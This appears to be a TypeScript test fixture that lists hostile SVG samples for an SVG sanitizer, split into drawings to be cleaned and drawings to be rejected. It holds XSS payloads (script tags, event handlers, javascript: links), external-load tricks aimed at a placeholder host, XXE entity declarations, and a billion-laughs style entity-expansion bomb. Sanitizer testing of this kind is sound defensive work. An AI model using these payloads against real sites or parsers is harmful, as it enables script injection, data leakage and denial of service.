const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24" ${attributes}>${inside}<path d="M0 0h24v24z"/></svg>`

/** Target of the requests that hostile drawings try to send. */
export const ELSEWHERE = 'https://elsewhere.example'

/** Drawings that try to run scripts or load resources; each still draws a square. */
export const HOSTILE_SVGS: Record<string, string> = {
  'a script': svg(`<script>alert(1);fetch('${ELSEWHERE}')</script>`),
  'a script by address': svg(`<script xlink:href="${ELSEWHERE}/x.js"/>`),
  'a script in another prefix': `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>`,
  'an event': svg('', 'onload="alert(1)"'),
  'an event in capitals': svg('<rect width="9" height="9" ONCLICK="alert(1)"/>'),
  'an event of an animation': svg(
    '<rect width="9" height="9"><animate attributeName="x" onbegin="alert(1)" dur="1s"/></rect>',
  ),
  'a link that runs': svg('<a xlink:href="javascript:alert(1)"><rect width="24" height="24"/></a>'),
  'a link that is set to run': svg(
    '<a><set attributeName="href" to="javascript:alert(1)"/><rect width="24" height="24"/></a>',
  ),
  'foreign markup': svg(
    `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${ELSEWHERE}"/></foreignObject>`,
  ),
  'an image from elsewhere': svg(`<image href="${ELSEWHERE}/x.png" width="9" height="9"/>`),
  'an image with data': svg('<image href="data:image/svg+xml,&lt;svg/&gt;" width="9" height="9"/>'),
  'a use from elsewhere': svg(`<use xlink:href="${ELSEWHERE}/x.svg#a"/>`),
  'a filter that loads': svg(
    `<filter id="f"><feImage href="${ELSEWHERE}/x.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  ),
  'a fill from elsewhere': svg(`<rect fill="url(${ELSEWHERE}/x.svg#p)" width="9" height="9"/>`),
  'a style that loads': svg(
    `<style>@import url(${ELSEWHERE}/x.css); rect { fill: url(${ELSEWHERE}/y) }</style><rect width="9" height="9"/>`,
  ),
  'a style attribute that loads': svg(
    `<rect style="background: url('${ELSEWHERE}')" width="9" height="9"/>`,
  ),
  'an escaped style': svg(`<rect style="fill: u\\72l(${ELSEWHERE})" width="9" height="9"/>`),
  'a style sheet': `<?xml-stylesheet href="${ELSEWHERE}/x.css"?>${svg('')}`,
  'a document type': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${ELSEWHERE}/svg11.dtd">${svg('')}`,
  'an entity from elsewhere': `<!DOCTYPE svg [<!ENTITY x SYSTEM "${ELSEWHERE}/x"><!ENTITY % p SYSTEM "${ELSEWHERE}/p">%p;]>${svg('<text>&x;</text>')}`,
  'entities in entities': `<!DOCTYPE svg [<!ENTITY a0 "lol">${Array.from({ length: 20 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join('')}]>${svg('<text>&a20;</text>')}`,
  'circular entities': `<!DOCTYPE svg [<!ENTITY a "&b;"><!ENTITY b "&a;">]>${svg('<text>&a;</text>')}`,
  'an entity with a script': `<!DOCTYPE svg [<!ENTITY a "<script>alert(1)</script>">]>${svg('&a;')}`,
  'a variable that loads': svg(
    `<rect style="--x: url(${ELSEWHERE}/x); fill: var(--x)" width="9" height="9"/>`,
  ),
  'a nested rule that loads': svg(
    `<style>g { rect { fill: url(${ELSEWHERE}/x) } }</style><g><rect width="9" height="9"/></g>`,
  ),
  'an attribute that a selector reads': svg(
    `<style>[id^=a] { fill: url(${ELSEWHERE}/a) }</style><rect id="a" width="9" height="9"/>`,
  ),
  'an address base': svg('<use xlink:href="#a"/>', `xml:base="${ELSEWHERE}"`),
  'an embedded page': svg(`<iframe src="${ELSEWHERE}"/><embed src="${ELSEWHERE}"/>`),
}

/** Drawings that are rejected entirely. */
export const REFUSED_SVGS: Record<string, string> = {
  'many entities': `<!DOCTYPE svg [${Array.from({ length: 101 }, (_, at) => `<!ENTITY e${at} "x">`).join('')}]>${svg('')}`,
  'text of entities': `<!DOCTYPE svg [<!ENTITY a "${'x'.repeat(5_000)}">]>${svg(`<text>${'&a;'.repeat(200)}</text>`)}`,
  'a document type that is not closed': `<!DOCTYPE svg [<!ENTITY a "x"><!-- ${svg('')}`,
  '100 000 elements': svg('<g/>'.repeat(100_000)),
  'nothing closed': '<svg xmlns="http://www.w3.org/2000/svg"><g><g><g>',
  'a web page': '<!doctype html><html><body><script>alert(1)</script></body></html>',
  text: 'no drawing at all',
  nothing: '',
}
